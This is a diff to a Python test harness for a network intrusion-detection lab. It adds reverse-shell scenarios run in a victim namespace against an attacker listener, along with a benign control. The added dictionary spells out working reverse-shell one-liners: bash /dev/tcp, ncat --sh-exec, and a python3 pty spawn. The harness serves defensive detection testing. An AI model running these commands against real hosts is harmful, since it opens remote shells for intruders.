@@ -153,7 +153,6 @@ class Scenario:
     kind: str  # "attack" or "benign"
     run: Callable[[NetLab, Path], Run]
     judge: Callable[[Run, list[dict[str, Any]], list[dict[str, Any]]], list[str]]
-    needs_cc: bool = False
 
 
 def _listener(lab: NetLab, payload: bytes = SHELL_PAYLOAD) -> tuple[Any, int]:
@@ -167,14 +166,29 @@ def _shell_ran(listener: Any, what: str) -> None:
         raise AssertionError(f"fixture: {what} did not run the attacker's command (received {received!r})")
 
 
-def run_bash_dev_tcp(lab: NetLab, _work: Path) -> Run:
-    """The classic ``bash -i >& /dev/tcp/host/port 0>&1``."""
-    listener, port = _listener(lab)
-    host = lab.attacker_ip4
-    lab.run(lab.victim_ns, ["bash", "-c", f"timeout {SHELL_SECONDS} bash -i >& /dev/tcp/{host}/{port} 0>&1; exit 0"],
-            timeout=20)
-    _shell_ran(listener, "bash /dev/tcp")
-    return Run(host, port)
+# Reverse-shell one-liners ({host}, {port}), each run by bash in the victim namespace against a listener that
+# types one command: the attacks a box must catch on every kernel. The tool each needs is its first word.
+REVERSE_SHELLS: dict[str, str] = {
+    "bash_dev_tcp": "bash -i >& /dev/tcp/{host}/{port} 0>&1",
+    "ncat_sh_exec": "ncat --sh-exec /bin/sh {host} {port}",
+    "python_pty_spawn": ("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{host}\",{port}));"
+                         "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
+}
+
+
+def shell_scenario(command: str) -> Callable[[NetLab, Path], Run]:
+    def run(lab: NetLab, _work: Path) -> Run:
+        tool = command.split()[0]
+        if shutil.which(tool) is None:
+            raise AssertionError(f"fixture: {tool} is not installed (provisioning installs it)")
+        listener, port = _listener(lab)
+        host = lab.attacker_ip4
+        line = command.format(host=host, port=port)
+        # "; exit 0" keeps bash as the parent (a lone command would be exec'd in place of bash).
+        lab.run(lab.victim_ns, ["timeout", str(SHELL_SECONDS), "bash", "-c", f"{line}; exit 0"], timeout=20)
+        _shell_ran(listener, line)
+        return Run(host, port)
+    return run
 
 
 def build_fake_runner(dest: Path) -> Path:
@@ -262,8 +276,8 @@ def judge_silent(run: Run, alerts: list[dict[str, Any]], events: list[dict[str, 
 
 
 SCENARIOS: dict[str, Scenario] = {s.name: s for s in (
-    Scenario("bash_dev_tcp", "attack", run_bash_dev_tcp, judge_one_incident),
-    Scenario("ci_step_with_secrets", "attack", run_ci_step_with_secrets, judge_ci_step, needs_cc=True),
+    *(Scenario(name, "attack", shell_scenario(cmd), judge_one_incident) for name, cmd in REVERSE_SHELLS.items()),
+    Scenario("ci_step_with_secrets", "attack", run_ci_step_with_secrets, judge_ci_step),
     Scenario("benign_http", "benign", run_benign_http, judge_silent),
 )}
 
